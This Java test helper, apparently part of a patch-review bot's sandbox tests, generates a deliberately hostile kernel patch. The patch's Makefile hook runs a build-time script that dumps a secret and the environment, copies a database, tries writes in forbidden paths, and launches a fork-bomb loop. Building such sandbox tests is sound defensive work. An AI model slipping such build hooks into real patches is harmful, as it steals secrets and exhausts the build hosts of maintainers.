package org.fsnbot.testing;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * fsnbot's own hostile patch (not a real one): its fs/notify/Makefile runs
 * a script, at build time, that tries what a hostile sender would. Each
 * attempt reports on stderr, prefixed "fsnbot-hostile:", so the build log
 * says how far it got.
 */
public final class HostilePatch {

    public static final String SAY = "fsnbot-hostile:";

    /** What the script aims at: a listener, a secret, the database, and places it must not write. */
    public record Targets(int port, String secretVariable, Path database, List<Path> plantIn) {
        public Targets {
            plantIn = List.copyOf(plantIn);
        }
    }

    private HostilePatch() {
    }

    public static Path write(Path dir, Targets t) throws IOException {
        List<String> script = new ArrayList<>(List.of(
                "say() { echo \"" + SAY + " $*\" >&2; }",
                "say start",
                "if bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + t.port() + "' 2>/dev/null; then say connect: reached;"
                        + " else say connect: refused; fi",
                "say secret: ${" + t.secretVariable() + ":-not in the environment}",
                "env | sort >&2",
                "if cat " + t.database() + " > stolen-db 2>/dev/null; then say database: copied; else say database:"
                        + " not readable; fi"));
        for (Path p : t.plantIn()) {
            Path target = p.resolve("fsnbot-planted");
            script.add("if echo planted > " + target + " 2>/dev/null; then say wrote " + target
                    + "; else say could not write " + target + "; fi");
        }
        script.add("i=0; while [ $i -lt 100000 ]; do sleep 120 </dev/null >/dev/null 2>&1 & i=$((i+1)); done");
        script.add("say fork bomb ended after $i");
        StringBuilder mail = new StringBuilder(String.join("\n",
                "From fsnbot Mon Sep 17 00:00:00 2001",
                "From: Hostile Sender <hostile@example.org>",
                "To: linux-fsdevel@vger.kernel.org",
                "Date: Mon, 30 Nov 2026 09:00:00 +0000",
                "Message-ID: <20261130090000.1-fsnbot-hostile@fsnbot.invalid>",
                "Subject: [PATCH] fsnotify: hostile build (fsnbot's sandbox test)",
                "",
                "This patch exists to prove fsnbot's sandbox. Do not apply it.",
                "",
                "Signed-off-by: Hostile Sender <hostile@example.org>",
                "---",
                "diff --git a/fs/notify/Makefile b/fs/notify/Makefile",
                "--- a/fs/notify/Makefile",
                "+++ b/fs/notify/Makefile",
                "@@ -1,4 +1,5 @@",
                " # SPDX-License-Identifier: GPL-2.0",
                "+$(shell sh $(srctree)/fs/notify/hostile.sh)",
                " obj-$(CONFIG_FSNOTIFY)\t\t+= fsnotify.o notification.o group.o mark.o \\",
                " \t\t\t\t   fdinfo.o",
                " ",
                "diff --git a/fs/notify/hostile.sh b/fs/notify/hostile.sh",
                "new file mode 100644",
                "--- /dev/null",
                "+++ b/fs/notify/hostile.sh",
                "@@ -0,0 +1," + script.size() + " @@",
                ""));
        for (String line : script) {
            mail.append('+').append(line).append('\n');
        }
        mail.append("-- \n2.39.5\n");
        Files.createDirectories(dir);
        return Files.writeString(dir.resolve("hostile.mbox"), mail.toString());
    }
}
